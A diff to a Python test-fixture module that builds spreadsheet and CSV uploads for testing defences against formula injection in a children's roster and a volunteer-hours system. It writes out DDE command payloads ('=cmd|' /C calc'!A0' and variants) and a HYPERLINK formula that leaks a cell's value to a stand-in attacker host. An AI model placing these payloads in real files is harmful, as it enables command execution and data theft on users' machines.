@@ -150,3 +150,119 @@ def csv_with_controls() -> bytes:
 
 def csv_rows(count: int) -> bytes:
     return ("姓名,身份证号,留守类型\n" + "王芳,A1,双亲外出务工\n" * count).encode()
+
+
+# --- Formula cells (formula injection through an upload) ----------------------------------------
+# A cell beginning with = is a formula to openpyxl: it writes <f>...</f> and no saved result
+# (only Excel or WPS computes one when it saves). A file saved by Excel holds both the formula
+# and the result it showed (<c t="str"><f>...</f><v>result</v></c>); ``xlsx_with_results`` makes
+# such cells by hand. Text cells may begin with = + - @ too (typed after an apostrophe, or from
+# a CSV): stored as text, they must never come back out of an export as a formula.
+DDE = "=cmd|' /C calc'!A0"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"王芳")'
+FORMULA_TEXTS = [DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+ROSTER_FORMULA_HEADER = [*HEADER, "监护人姓名", "村(社区)", "父亲务工地点", "备注"]
+
+
+def _xml_text(text: str) -> bytes:
+    return (
+        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+    ).encode()
+
+
+def xlsx_with_results(rows: list[list], results: dict[str, tuple[str, str]]) -> bytes:
+    """An xlsx whose cells named in ``results`` (``{"PLACEHOLDER": (formula, result)}``) are
+    formula cells with a saved text result, as Excel writes them."""
+    data = xlsx(rows)
+
+    def change(xml: bytes) -> bytes:
+        for placeholder, (formula, result) in results.items():
+            inline = b't="inlineStr"><is><t>' + placeholder.encode() + b"</t></is></c>"
+            assert inline in xml, placeholder
+            xml = xml.replace(
+                inline,
+                b't="str"><f>'
+                + _xml_text(formula.removeprefix("="))
+                + b"</f><v>"
+                + _xml_text(result)
+                + b"</v></c>",
+            )
+        return xml
+
+    return _rewrite_sheet(data, change)
+
+
+def roster_with_saved_formulas() -> bytes:
+    """One child, as Excel saves it: the name is a HYPERLINK formula showing 王芳, the village
+    a formula whose result is itself DDE text, the guardian and the work place text cells
+    beginning with @ and +, the notes a formula showing a number."""
+    return xlsx_with_results(
+        [
+            ROSTER_FORMULA_HEADER,
+            [
+                "NAME_CELL",
+                ID_NUMBER,
+                "双亲外出务工",
+                "祖辈监护",
+                FORMULA_TEXTS[3],
+                "VILLAGE_CELL",
+                FORMULA_TEXTS[1],
+                "NOTES_CELL",
+            ],
+        ],
+        {
+            "NAME_CELL": (HYPERLINK, "王芳"),
+            "VILLAGE_CELL": ("=\"=cmd|' /C calc'!A0\"", DDE),
+            "NOTES_CELL": ("=1+1", "2"),
+        },
+    )
+
+
+def roster_with_bare_formulas() -> bytes:
+    """Two children written by openpyxl with real formula cells and no saved results: the first
+    has a formula for a name, the second a DDE formula in the village and a HYPERLINK in the
+    notes."""
+    second = resident_id_build("330502", dt.date(2015, 6, 1), 33)
+    return xlsx(
+        [
+            ROSTER_FORMULA_HEADER,
+            [HYPERLINK, ID_NUMBER, "双亲外出务工", "祖辈监护", "王秀英", "", "", ""],
+            ["李雷", second, "双亲外出务工", "祖辈监护", "王秀英", DDE, "", HYPERLINK],
+        ]
+    )
+
+
+def roster_csv_with_formula_texts() -> bytes:
+    """A CSV (every cell is text) with a rejected row (bad ID) whose cells begin with each of
+    = + - @: the error sheet gives these cells back."""
+    cells = [f'"{t}"' if "," in t or '"' in t else t for t in FORMULA_TEXTS]
+    return (
+        "姓名,身份证号,留守类型,监护方式,监护人姓名,村(社区),父亲务工地点,备注\r\n"
+        + ",".join([cells[0], "3305", "双亲外出务工", "祖辈监护", *cells[1:], "'" + DDE])
+        + "\r\n"
+    ).encode()
+
+
+HOURS_HEADER = ["姓名", "志愿汇账号", "活动名称", "签到时间", "签退时间", "服务时长（小时）"]
+
+
+def hours_with_formulas(account: str, name: str) -> bytes:
+    """A 志愿汇 export: the first record's activity is a formula whose saved result is DDE text,
+    the second's a HYPERLINK showing plain text, the third has a bare formula (no saved
+    result) for an activity and is refused, the fourth's name is text beginning with @ (not
+    the account's name: refused too), its activity and hours text beginning with - and +;
+    both refused rows are given back in the error sheet."""
+    return xlsx_with_results(
+        [
+            HOURS_HEADER,
+            [name, account, "ACTIVITY_DDE", "2026-10-09 08:00", "2026-10-09 10:00", 2],
+            [name, account, "ACTIVITY_LINK", "2026-10-10 08:00", "2026-10-10 11:00", 3],
+            [name, account, "=1+1", "2026-10-11 08:00", "2026-10-11 09:00", 1],
+            [FORMULA_TEXTS[3], account, "-2+3", "2026-10-12 08:00", "2026-10-12 09:00", "+1"],
+        ],
+        {
+            "ACTIVITY_DDE": ("=\"=cmd|' /C calc'!A0\"", DDE),
+            "ACTIVITY_LINK": ('=HYPERLINK("http://evil.example/","周末学业辅导")', "周末学业辅导"),
+        },
+    )
